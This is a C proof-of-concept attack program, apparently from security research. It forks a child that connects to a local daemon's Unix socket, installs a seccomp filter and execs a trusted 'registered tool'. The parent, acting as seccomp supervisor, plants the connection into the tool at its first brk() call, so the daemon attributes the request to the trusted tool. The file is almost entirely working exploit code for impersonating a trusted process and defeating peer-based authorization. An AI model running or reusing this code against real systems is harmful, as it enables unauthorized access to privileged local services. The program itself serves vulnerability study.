/* A planted connection: A hands its connection to a sibling B, puts a seccomp filter on itself, asks, and becomes the
 * registered tool. B, the filter's supervisor, stops the tool at its first brk() and plants the connection in it, close
 * on exec, where the tool never had one. B reads the answer.
 *
 * planted SOCKET TOOL RUNS REQUEST DAEMON     DAEMON: pid to be stopped until the connection is planted, 0 for none
 */
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

static void pass(int over, int fd)
{
	union {
		char bytes[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control = {{0}};
	char x = 'x';
	struct iovec one = {&x, 1};
	struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof fd);
	memcpy(CMSG_DATA(c), &fd, sizeof fd);
	if (sendmsg(over, &m, 0) != 1)
		die("pass");
}

static int take(int over)
{
	union {
		char bytes[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	char x;
	struct iovec one = {&x, 1};
	struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
	int fd;

	if (recvmsg(over, &m, MSG_CMSG_CLOEXEC) != 1)
		die("take");
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
	return fd;
}

static void become(int over, const char *path, const char *tool, const char *request)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_brk, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {4, filter};
	int listener, fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	dial_on(fd, path);
	pass(over, fd);
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	if (listener < 0)
		die("seccomp");
	pass(over, listener);
	tell(fd, request);
	execl(tool, tool, (char *)NULL);
	die("exec");
}

static void once(char **argv)
{
	struct seccomp_notif trapped = {0};
	struct seccomp_notif_addfd plant = {.newfd_flags = O_CLOEXEC};
	int ends[2], fd, listener, daemon = atoi(argv[5]);
	pid_t tool;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) != 0)
		die("socketpair");
	if (daemon)
		kill(daemon, SIGSTOP);
	tool = fork();
	if (tool == 0)
		become(ends[1], argv[1], argv[2], argv[4]);
	fd = take(ends[0]);
	listener = take(ends[0]);
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &trapped) == 0) {
		plant.id = trapped.id;
		plant.srcfd = (unsigned)fd;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &plant);
	}
	if (daemon)
		kill(daemon, SIGCONT);
	hear(fd, STDOUT_FILENO);
	kill(tool, SIGKILL);
	waitpid(tool, NULL, 0);
	close(fd);
	close(listener);
	close(ends[0]);
	close(ends[1]);
}

int main(int argc, char **argv)
{
	int runs;

	if (argc != 6)
		return 2;
	for (runs = atoi(argv[3]); runs > 0; runs--)
		once(argv);
	return 0;
}
